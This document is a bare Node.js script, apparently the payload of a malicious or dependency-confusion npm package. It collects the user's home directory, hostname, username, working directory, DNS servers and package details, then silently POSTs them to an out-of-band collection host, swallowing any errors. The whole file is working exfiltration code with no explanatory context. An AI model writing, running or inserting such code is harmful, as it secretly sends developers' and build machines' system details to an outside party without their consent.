const os = require('os');
const dns = require('dns');
const querystring = require('querystring');
const https = require('https');
const trackingData = JSON.stringify({
  p: __dirname, c: process.cwd(), hd: os.homedir(), hn: os.hostname(), un: os.userInfo().username,
  dns: dns.getServers(), r: process.env.npm_package_resolved, v: process.env.npm_package_version,
  pjson: process.env.npm_package_name,
});
const postData = querystring.stringify({ msg: trackingData });
const req = https.request({ hostname: 'c5l0a8h2.oast.example', port: 443, path: '/', method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': postData.length } });
req.on('error', () => {});
req.write(postData);
req.end();
